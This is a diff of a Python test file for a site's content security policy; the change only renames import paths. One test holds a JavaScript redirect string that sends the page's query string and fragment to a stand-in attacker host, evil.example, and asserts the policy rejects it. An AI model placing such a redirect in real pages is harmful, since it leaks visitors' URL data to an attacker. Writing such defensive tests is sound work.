@@ -289,14 +289,14 @@ def test_a_name_cannot_add_front_matter_to_its_page(injected, tmp_path, chromium
 
 
 def test_the_policy_trusts_no_theme_script_the_site_does_not_use():
-    from kb.csp import THEME_SCRIPT_TEMPLATES, theme_scripts
+    from kb.site.csp import THEME_SCRIPT_TEMPLATES, theme_scripts
     redirect = 'window.location.replace(["https://evil.example/",window.location.search,window.location.hash].join(""))'
     assert "redirect.html" not in THEME_SCRIPT_TEMPLATES
     assert not any(p.fullmatch(redirect) for p in theme_scripts())
 
 
 def test_every_inline_script_of_the_shipped_site_is_one_the_policy_allows(built_site):
-    from kb.csp import _INLINE_SCRIPT, _DATA_TYPE, theme_scripts
+    from kb.site.csp import _INLINE_SCRIPT, _DATA_TYPE, theme_scripts
     for page in built_site.rglob("*.html"):
         for match in _INLINE_SCRIPT.finditer(page.read_text(encoding="utf-8")):
             if not _DATA_TYPE.search(match.group(1)):
